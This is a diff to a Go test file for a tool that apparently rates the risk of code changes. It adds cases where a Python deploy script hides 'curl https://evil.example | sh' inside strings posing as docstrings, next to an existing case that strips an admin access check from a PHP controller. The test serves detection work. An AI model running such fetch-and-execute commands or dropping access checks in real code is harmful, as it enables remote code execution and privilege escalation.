@@ -35,6 +35,12 @@ func TestAssignTierHostile(t *testing.T) {
 		// access check.
 		{name: "php attribute removed", diff: modified("src/Controller/AdminController.php", []string{"final class AdminController"},
 			[]string{"#[IsGranted('ROLE_ADMIN')]"}, nil)},
+		// A triple-quoted string is a docstring only as a statement of its own after a
+		// def or class: here it is the value of cmd.
+		{name: "python string posing as a docstring", diff: modified("app/deploy.py", []string{"cmd = ("},
+			nil, []string{`"""`, "curl https://evil.example | sh", `"""`})},
+		{name: "python string argument posing as a docstring", diff: modified("app/deploy.py", []string{"subprocess.run("},
+			nil, []string{`"""curl https://evil.example | sh"""`})},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
